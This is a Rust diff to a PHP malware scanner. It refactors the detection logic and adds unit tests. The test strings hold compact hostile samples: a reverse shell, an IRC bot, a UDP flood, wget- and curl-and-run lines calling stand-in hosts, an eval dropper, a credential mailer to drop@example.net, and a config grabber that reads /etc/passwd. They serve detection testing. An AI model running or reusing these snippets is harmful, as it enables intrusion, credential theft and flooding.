@@ -239,10 +239,11 @@ fn past_time(arg: &[Token<'_>]) -> Option<PastTime> {
     if fixed_fn && only_literals && no_vars {
         return Some(PastTime::FixedDate);
     }
-    if let [Token { tok: Tok::Num(n), .. }] = arg {
-        if n.len() >= 9 && n.iter().all(u8::is_ascii_digit) {
-            return Some(PastTime::FixedDate);
-        }
+    if let [Token { tok: Tok::Num(n), .. }] = arg
+        && n.len() >= 9
+        && n.iter().all(u8::is_ascii_digit)
+    {
+        return Some(PastTime::FixedDate);
     }
     None
 }
@@ -316,14 +317,20 @@ static FORM: LazyLock<Regex> =
 /// web shell reads out first.
 const RECON_SETTINGS: [&[u8]; 4] = [b"safe_mode", b"disable_functions", b"open_basedir", b"/etc/passwd"];
 
-/// Another account's site files (`'/home/' . $user . '/public_html/…'`) or the server's root
-/// linked into the site: how config grabbers collect every site's database password.
+/// Another account's site files (`'/home/' . $user . '/public_html/…'`): how config grabbers
+/// collect every site's database password.
 static OTHER_SITES: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(concat!(
         r#"(?i-u)(?:/home\d*/["']\s*\.\s*\$[a-z_0-9]+\s*\.\s*["']|/home\d*/\$[a-z_0-9]+|/home\d*/\{\$[a-z_0-9]+\})"#,
-        r#"/(?:public_html|www|htdocs)|symlink\s*\(\s*["']/(?:["']|home\d*/?["']|etc/passwd|var/www/?["'])"#,
+        r#"/(?:public_html|www|htdocs)/"#,
     ))
     .expect("pattern compiles")
+});
+
+/// The server's root, homes or accounts list linked into the site.
+static SYSTEM_LINK: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i-u)\bsymlink\s*\(\s*["']/(?:["']|home\d*/?["']|etc/passwd|var/www/?["'])"#)
+        .expect("pattern compiles")
 });
 
 /// Everything a file shows of the families, one pass over the tokens.
@@ -352,6 +359,8 @@ struct Facts {
     recon_literals: u8,
     /// A protection setting read out and printed (`echo ini_get('safe_mode')`).
     recon_shown: bool,
+    /// `/etc/passwd` named in a literal.
+    recon_literal_passwd: bool,
     /// `ini_restore('safe_mode')`: undoes the host's hardening for this script.
     protection_restored: Option<usize>,
 }
@@ -392,10 +401,8 @@ fn facts(t: &[Token<'_>]) -> Facts {
                             }
                         }
                     }
-                    F::Unlink if f.self_delete.is_none() => {
-                        if a().first().is_some_and(|x| is_own_file(x)) {
-                            f.self_delete = Some(tok.at);
-                        }
+                    F::Unlink if f.self_delete.is_none() && a().first().is_some_and(|x| is_own_file(x)) => {
+                        f.self_delete = Some(tok.at);
                     }
                     F::Socket | F::SocketAddr
                         if f.socket_from_input.is_none() && a().iter().take(2).any(|x| reads_input(x, inputs)) =>
@@ -448,8 +455,8 @@ fn facts(t: &[Token<'_>]) -> Facts {
                         f.protection_restored = Some(t[i - 2].at);
                     }
                 }
-                if let Some(secret) = credential_line(t, i, value, vars) {
-                    f.credential_lines = f.credential_lines.saturating_add(1);
+                if let Some((lines, secret)) = credential_line(t, i, value, vars) {
+                    f.credential_lines = f.credential_lines.saturating_add(lines);
                     if secret && f.secret_line.is_none() {
                         f.secret_line = Some(tok.at);
                     }
@@ -466,6 +473,7 @@ fn facts(t: &[Token<'_>]) -> Facts {
         }
     }
     f.recon_literals = recon_seen.iter().filter(|s| **s).count() as u8;
+    f.recon_literal_passwd = recon_seen[3];
     f
 }
 
@@ -580,18 +588,24 @@ static SECRET_KEY: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r"(?i-u)pass|pwd|card|^cc|cvv|cvc|ssn|pin|otp").expect("pattern compiles"));
 
 /// `"Password: " . $_POST['pass']` or `"Password: $_POST[pass]"` at token `i`: a collector's
-/// log line. Some(true) when the field is a secret.
-fn credential_line(t: &[Token<'_>], i: usize, value: &[u8], vars: &[&[u8]]) -> Option<bool> {
+/// log line. How many such lines, and whether one field is a secret.
+fn credential_line(t: &[Token<'_>], i: usize, value: &[u8], vars: &[&[u8]]) -> Option<(u8, bool)> {
     if value.len() > 200 {
         return None;
     }
     if vars.iter().any(|v| matches!(*v, b"_POST" | b"_GET" | b"_REQUEST")) {
-        // Interpolated: the label and then `[key]` in the same text.
-        let open = memchr::memchr(b'[', value)?;
-        let close = open + memchr::memchr(b']', &value[open..])?;
-        let key = value[open + 1..close].trim_ascii_matches_quotes();
-        return (CREDENTIAL_LABEL.is_match(&value[..open]) && CREDENTIAL_KEY.is_match(key))
-            .then(|| SECRET_KEY.is_match(key));
+        // Interpolated: labels each followed by a `[key]` in the same text.
+        let (mut lines, mut secret, mut from) = (0u8, false, 0);
+        while let Some(open) = memchr::memchr(b'[', &value[from..]).map(|o| o + from) {
+            let Some(close) = memchr::memchr(b']', &value[open..]).map(|c| c + open) else { break };
+            let key = value[open + 1..close].trim_ascii_matches_quotes();
+            if CREDENTIAL_LABEL.is_match(&value[from..open]) && CREDENTIAL_KEY.is_match(key) {
+                lines += 1;
+                secret |= SECRET_KEY.is_match(key);
+            }
+            from = close + 1;
+        }
+        return (lines > 0).then_some((lines, secret));
     }
     if !CREDENTIAL_LABEL.is_match(value) || !is_op(t.get(i + 1), b".") {
         return None;
@@ -601,7 +615,7 @@ fn credential_line(t: &[Token<'_>], i: usize, value: &[u8], vars: &[&[u8]]) -> O
         return None;
     }
     let key = t.get(i + 4).and_then(str_value)?;
-    CREDENTIAL_KEY.is_match(key).then(|| SECRET_KEY.is_match(key))
+    CREDENTIAL_KEY.is_match(key).then(|| (1, SECRET_KEY.is_match(key)))
 }
 
 trait TrimQuotes {
@@ -650,10 +664,12 @@ pub fn analyze(text: &[u8], t: &[Token<'_>], o: Options) -> Vec<Shape> {
             add(Why::NetworkBot, Danger::High, sock);
         }
     }
-    if let Some(at) = f.udp_socket {
-        if f.has(F::Loop) && f.has(F::Write) && f.has(F::RunsLong) {
-            add(Why::NetworkBot, Danger::High, at);
-        }
+    if let Some(at) = f.udp_socket
+        && f.has(F::Loop)
+        && f.has(F::Write)
+        && f.has(F::RunsLong)
+    {
+        add(Why::NetworkBot, Danger::High, at);
     }
 
     if let Some(at) = f.socket_from_input {
@@ -661,10 +677,11 @@ pub fn analyze(text: &[u8], t: &[Token<'_>], o: Options) -> Vec<Shape> {
     }
 
     // Phishing: form fields with passwords or cards, labelled, then mailed or saved.
-    if let Some(at) = f.secret_line {
-        if f.credential_lines >= 2 && (f.has(F::Mail) || f.has(F::Write) || f.has(F::CurlExec)) {
-            add(Why::CredentialCollector, Danger::High, at);
-        }
+    if let Some(at) = f.secret_line
+        && f.credential_lines >= 2
+        && (f.has(F::Mail) || f.has(F::Write) || f.has(F::CurlExec))
+    {
+        add(Why::CredentialCollector, Danger::High, at);
     }
 
     // Cloaking: search engines' crawlers told apart, content fetched from another site.
@@ -676,15 +693,15 @@ pub fn analyze(text: &[u8], t: &[Token<'_>], o: Options) -> Vec<Shape> {
     }
 
     // Droppers.
-    if let Some(at) = f.php_dropper_literal {
-        if f.has(F::Write) {
-            add(Why::WritesCodeWithInput, Danger::High, at);
-        }
+    if let Some(at) = f.php_dropper_literal
+        && f.has(F::Write)
+    {
+        add(Why::WritesCodeWithInput, Danger::High, at);
     }
-    if f.has(F::Shell) || t.iter().any(|x| matches!(x.tok, Tok::Backtick { .. })) {
-        if let Some(m) = DOWNLOAD_AND_RUN.find(text) {
-            add(Why::DownloadsProgram, Danger::High, m.start());
-        }
+    if (f.has(F::Shell) || t.iter().any(|x| matches!(x.tok, Tok::Backtick { .. })))
+        && let Some(m) = DOWNLOAD_AND_RUN.find(text)
+    {
+        add(Why::DownloadsProgram, Danger::High, m.start());
     }
 
     // Web-shell consoles: server reconnaissance and a file manager driven by the request.
@@ -702,7 +719,12 @@ pub fn analyze(text: &[u8], t: &[Token<'_>], o: Options) -> Vec<Shape> {
     if let Some(at) = f.protection_restored {
         add(Why::PhpWeakened, Danger::High, at);
     }
-    if let Some(m) = OTHER_SITES.find(text) {
+    // A site's own path is sometimes built this way: many sites' files, or the accounts list
+    // to enumerate them, is what a grabber shows.
+    let mut homes = OTHER_SITES.find_iter(text);
+    let first_home = homes.next();
+    let many = first_home.is_some() && (homes.next().is_some() || f.recon_literal_passwd);
+    if let Some(m) = SYSTEM_LINK.find(text).or(first_home.filter(|_| many)) {
         add(Why::ReadsOtherSites, Danger::High, m.start());
     }
 
@@ -734,12 +756,12 @@ fn recon_calls<'a>(t: &[Token<'a>]) -> (usize, bool) {
         while j > 0 && is_op(t.get(j - 1), b"@") {
             j -= 1;
         }
-        if j >= 2 && is_op(t.get(j - 1), b"=") {
-            if let Tok::Var(v) = t[j - 2].tok {
-                if held.len() < 32 {
-                    held.push(v);
-                }
-            }
+        if j >= 2
+            && is_op(t.get(j - 1), b"=")
+            && let Tok::Var(v) = t[j - 2].tok
+            && held.len() < 32
+        {
+            held.push(v);
         }
     }
     if !shown && !held.is_empty() {
@@ -781,5 +803,252 @@ mod tests {
 
     fn found(src: &str) -> Vec<Why> {
         whys(src).into_iter().map(|(w, _)| w).collect()
+    }
+
+    /// The own-written fixtures of each family (the integration test sweeps them all) give the
+    /// family's reason through `detect::judge`, so they are reported.
+    #[test]
+    fn each_fixture_is_reported_for_its_family() {
+        let cases: &[(&str, &str, Why)] = &[
+            (
+                "backdating_self_deleting_dropper.php",
+                include_str!("../../tests/fixtures/sweep/malicious/backdating_self_deleting_dropper.php"),
+                Why::BackdatesFiles,
+            ),
+            (
+                "reverse_shell_socket.php",
+                include_str!("../../tests/fixtures/sweep/malicious/reverse_shell_socket.php"),
+                Why::RemoteShell,
+            ),
+            (
+                "irc_bot_privmsg.php",
+                include_str!("../../tests/fixtures/sweep/malicious/irc_bot_privmsg.php"),
+                Why::NetworkBot,
+            ),
+            (
+                "udp_flood_loop.php",
+                include_str!("../../tests/fixtures/sweep/malicious/udp_flood_loop.php"),
+                Why::NetworkBot,
+            ),
+            (
+                "socket_relay_from_request.php",
+                include_str!("../../tests/fixtures/sweep/malicious/socket_relay_from_request.php"),
+                Why::NetworkFromInput,
+            ),
+            (
+                "googlebot_curl_cloak.php",
+                include_str!("../../tests/fixtures/sweep/malicious/googlebot_curl_cloak.php"),
+                Why::SearchEngineCloaking,
+            ),
+            (
+                "credential_mailer_kit.php",
+                include_str!("../../tests/fixtures/sweep/malicious/credential_mailer_kit.php"),
+                Why::CredentialCollector,
+            ),
+            (
+                "php_dropper_literal.php",
+                include_str!("../../tests/fixtures/sweep/malicious/php_dropper_literal.php"),
+                Why::WritesCodeWithInput,
+            ),
+            (
+                "wget_chmod_run.php",
+                include_str!("../../tests/fixtures/sweep/malicious/wget_chmod_run.php"),
+                Why::DownloadsProgram,
+            ),
+            (
+                "server_console_form.php",
+                include_str!("../../tests/fixtures/sweep/malicious/server_console_form.php"),
+                Why::WebShellConsole,
+            ),
+            (
+                "injected_obfuscated_script.php",
+                include_str!("../../tests/fixtures/sweep/malicious/injected_obfuscated_script.php"),
+                Why::InjectedScript,
+            ),
+            (
+                "injected_throwaway_domain_script.php",
+                include_str!("../../tests/fixtures/sweep/malicious/injected_throwaway_domain_script.php"),
+                Why::InjectedScript,
+            ),
+            (
+                "ini_restore_bypass.php",
+                include_str!("../../tests/fixtures/sweep/malicious/ini_restore_bypass.php"),
+                Why::PhpWeakened,
+            ),
+            (
+                "config_grabber_homes.php",
+                include_str!("../../tests/fixtures/sweep/malicious/config_grabber_homes.php"),
+                Why::ReadsOtherSites,
+            ),
+        ];
+        for (name, text, why) in cases {
+            let hits = crate::sweep::detect::judge(&format!("lib/{name}"), name, text.as_bytes(), &[]);
+            assert!(hits.iter().any(|h| h.why == *why && h.danger >= Danger::Medium), "{name}: {hits:?}");
+        }
+    }
+
+    #[test]
+    fn backdating_and_self_deletion_are_found() {
+        let dropper = "<?php if (file_exists('./x.php')) { touch('./x.php', time() - 60*60*24*30); } unlink(__FILE__);";
+        assert_eq!(whys(dropper), [(Why::BackdatesFiles, Danger::High), (Why::DeletesItself, Danger::High)]);
+        assert_eq!(found("<?php touch($f, strtotime('2014-03-02 10:00:00'));"), [Why::BackdatesFiles]);
+        assert_eq!(found("<?php touch($f, 1388534400);"), [Why::BackdatesFiles]);
+        assert_eq!(whys("<?php @unlink($_SERVER['SCRIPT_FILENAME']);"), [(Why::DeletesItself, Danger::Medium)]);
+    }
+
+    #[test]
+    fn ordinary_touch_and_unlink_are_quiet() {
+        // Tests age a cache file by seconds; caches touch with the current time.
+        assert!(found("<?php touch(__DIR__.'/tmp/a', time() - 3); touch($file); touch($f, time());").is_empty());
+        assert!(found("<?php unlink($tmp); @unlink($this->file);").is_empty());
+        // A generator writing a self-deleting script is text, not a call.
+        assert!(found("<?php $data .= 'if (@unlink(__FILE__)) {' . \"\\n\";").is_empty());
+        // Copying another file's time is weak on its own in a large file.
+        let big = format!("<?php {} touch($to, filemtime($from));", "$a = 1; ".repeat(200));
+        assert_eq!(whys(&big), [(Why::BackdatesFiles, Danger::Low)]);
+    }
+
+    #[test]
+    fn remote_shells_and_bots_are_found() {
+        let reverse =
+            "<?php $s = fsockopen($ip, 4444); $p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);";
+        assert_eq!(found(reverse), [Why::RemoteShell]);
+        let irc = "<?php $c = fsockopen($server, 6667); fputs($c, \"NICK $nick\\r\\n\"); \
+                   while ($l = fgets($c)) { if (strpos($l, 'PRIVMSG') !== false) { fputs($c, \"PRIVMSG #c :ok\\r\\n\"); } }";
+        assert_eq!(found(irc), [Why::NetworkBot]);
+        let flood = "<?php set_time_limit(0); $h = $_GET['h']; $end = time() + 60; \
+                     while (time() < $end) { $f = fsockopen('udp://' . $h, rand(1, 65000)); fwrite($f, str_repeat('X', 65000)); fclose($f); }";
+        assert!(found(flood).contains(&Why::NetworkBot), "{:?}", found(flood));
+    }
+
+    #[test]
+    fn mail_clients_and_lookups_are_not_bots() {
+        let pop3 =
+            "<?php $fp = fsockopen($server, 110); fputs($fp, \"USER $user\\r\\n\"); fputs($fp, \"PASS $pass\\r\\n\");";
+        assert!(found(pop3).is_empty());
+        let dns = "<?php $fp = fsockopen('udp://' . $dns, 53); for ($i = 0; $i < 3; $i++) { fwrite($fp, $query); }";
+        assert!(found(dns).is_empty());
+        let smtp = "<?php $fp = fsockopen($config['smtp_host'], 25); exec('hostname', $out);";
+        assert!(found(smtp).is_empty());
+    }
+
+    #[test]
+    fn visitor_chosen_connections_are_found() {
+        let relay = "<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_connect($s, $_GET['i'], $_GET['p']); socket_send($s, $_GET['m'], 99, 0);";
+        assert_eq!(whys(relay), [(Why::NetworkFromInput, Danger::High)]);
+        let through = "<?php $host = trim($_POST['host']); $fp = fsockopen($host, 80);";
+        assert_eq!(found(through), [Why::NetworkFromInput]);
+        assert!(found("<?php $fp = fsockopen($this->host, $this->port);").is_empty());
+    }
+
+    #[test]
+    fn search_engine_cloaking_is_found() {
+        let cloak = "<?php $ua = strtolower($_SERVER['HTTP_USER_AGENT']); if (strpos($ua, 'googlebot') !== false) { \
+                     $ch = curl_init('http://spam.example/page?u=' . $_SERVER['REQUEST_URI']); \
+                     curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($ch); exit; }";
+        assert_eq!(found(cloak), [Why::SearchEngineCloaking]);
+        let bare = "<?php $b = getenv('HTTP_USER_AGENT'); if (stristr($b, 'bing')) { echo file_get_contents('http://links.example/l.txt'); }";
+        assert_eq!(found(bare), [Why::SearchEngineCloaking]);
+        // A cache that skips crawlers fetches nothing.
+        let cache = "<?php if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) { return; } $page = file_get_contents($cache_file);";
+        assert!(found(cache).is_empty());
+    }
+
+    #[test]
+    fn droppers_are_found() {
+        let code =
+            "<?php $f = fopen('wp-content/x.php', 'w'); fwrite($f, '<?php @eval($_POST[\"p\"]); ?>'); fclose($f);";
+        assert_eq!(found(code), [Why::WritesCodeWithInput]);
+        let download = "<?php system('cd /tmp; wget http://203.0.113.9/bot.pl -O b.pl; perl b.pl');";
+        assert_eq!(found(download), [Why::DownloadsProgram]);
+        let chmod = "<?php $c = 'curl -s -o /tmp/k https://bad.example/k && chmod +x /tmp/k'; shell_exec($c);";
+        assert_eq!(found(chmod), [Why::DownloadsProgram]);
+    }
+
+    #[test]
+    fn installers_and_commands_that_run_nothing_are_quiet() {
+        let config = "<?php file_put_contents($path, '<?php return ' . var_export($settings, true) . ';');";
+        assert!(found(config).is_empty());
+        let health = "<?php exec('curl -s https://status.example.org/health', $out);";
+        assert!(found(health).is_empty());
+        // A download described in text, with no shell call in the file.
+        assert!(found("<?php $help = 'Run: wget https://example.org/x.tar.gz && sh install.sh';").is_empty());
+    }
+
+    #[test]
+    fn web_shell_consoles_are_found() {
+        let console = "<form method=post><input name=d></form><?php echo php_uname(); echo get_current_user(); \
+                       echo ini_get('disable_functions'); $d = $_POST['d']; foreach (scandir($d) as $x) { echo $x; } \
+                       if (isset($_POST['rm'])) { unlink($_POST['rm']); } if (isset($_POST['mv'])) { rename($_POST['mv'], $_POST['to']); }";
+        assert_eq!(found(console), [Why::WebShellConsole]);
+    }
+
+    #[test]
+    fn libraries_that_check_the_server_are_quiet() {
+        // WordPress-like filesystem checks: the same functions, nothing shown to the visitor.
+        let lib = "<?php function method() { if (getmyuid() === fileowner(__FILE__)) { return 'direct'; } \
+                   $free = disk_free_space(WP_CONTENT_DIR); $p = fileperms($f); } \
+                   function form() { ?><form><input name=host><?php $h = $_POST['host']; rename($a, $b); unlink($c); $l = scandir($d); }";
+        assert!(found(lib).is_empty());
+    }
+
+    #[test]
+    fn injected_scripts_are_found() {
+        let hidden = "<script>var _0x3f2a=['\\x68\\x72\\x65\\x66'];document[_0x3f2a[0]]='x';</script><?php\n// Silence is golden.\n";
+        assert_eq!(found(hidden), [Why::InjectedScript]);
+        let foreign = "<script type='text/javascript' src='https://stats.lovely-cats.tk/m.js?n=1'></script><?php\n";
+        assert_eq!(found(foreign), [Why::InjectedScript]);
+        let codes = "<?php echo '<script>eval(String.fromCharCode(118, 97, 114, 32))</script>';";
+        assert_eq!(found(codes), [Why::InjectedScript]);
+    }
+
+    #[test]
+    fn ordinary_scripts_are_quiet() {
+        let theme =
+            "<script src=\"https://cdn.jsdelivr.net/npm/jquery@3/dist/jquery.min.js\"></script><?php wp_head(); ?>";
+        assert!(found(theme).is_empty());
+        // Content sniffers compare bytes with '<script' and binary signatures: no script tag.
+        let sniffer = "<?php if (substr($b, 0, 7) === '<script') { return 'text/html'; } \
+                       if ($b === \"\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x01\") { return 'x'; }";
+        assert!(found(sniffer).is_empty());
+        // Mail obfuscators print a document.write of escaped text.
+        let mailto =
+            "<?php echo '<script type=\"text/javascript\">document.write(unescape(\\'' . $enc . '\\'))</script>';";
+        assert!(found(mailto).is_empty());
+    }
+
+    #[test]
+    fn credential_collectors_are_found() {
+        let kit = "<?php $ip = getenv('REMOTE_ADDR'); $m = \"Email : \" . $_POST['email'] . \"\\n\"; \
+                   $m .= \"Password : \" . $_POST['pass'] . \"\\n\"; mail('drop@example.net', 'login ' . $ip, $m); \
+                   header('Location: https://mail.example.com/');";
+        assert_eq!(found(kit), [Why::CredentialCollector]);
+        let saved = "<?php $f = fopen('cards.txt', 'a'); fwrite($f, \"Card: $_POST[ccnum]\\nCVV: $_POST[cvv]\\n\");";
+        assert_eq!(found(saved), [Why::CredentialCollector]);
+    }
+
+    #[test]
+    fn login_forms_are_not_collectors() {
+        let login = "<?php if (password_verify($_POST['password'], $hash)) { mail($admin, 'New login', 'User ' . $name . ' logged in'); }";
+        assert!(found(login).is_empty());
+        let register =
+            "<?php $msg = 'Welcome, your user name is: ' . $_POST['user']; mail($_POST['email'], 'Welcome', $msg);";
+        assert!(found(register).is_empty());
+    }
+
+    #[test]
+    fn protection_bypasses_and_config_grabbers_are_found() {
+        assert_eq!(found("<?php ini_restore('safe_mode'); ini_restore('open_basedir');"), [Why::PhpWeakened]);
+        let grab = "<?php $users = file('/etc/passwd'); foreach ($users as $u) { $n = explode(':', $u)[0]; \
+                    copy('/home/' . $n . '/public_html/wp-config.php', $n . '.txt'); }";
+        assert_eq!(found(grab), [Why::ReadsOtherSites]);
+        assert_eq!(found("<?php symlink('/', 'root');"), [Why::ReadsOtherSites]);
+    }
+
+    #[test]
+    fn own_paths_and_settings_checks_are_quiet() {
+        assert!(found("<?php if (ini_get('safe_mode')) { $warn = true; }").is_empty());
+        assert!(found("<?php $root = '/home/' . $user . '/public_html/'; touch($root . 'x');").is_empty());
+        assert!(found("<?php symlink($target, $link);").is_empty());
     }
 }
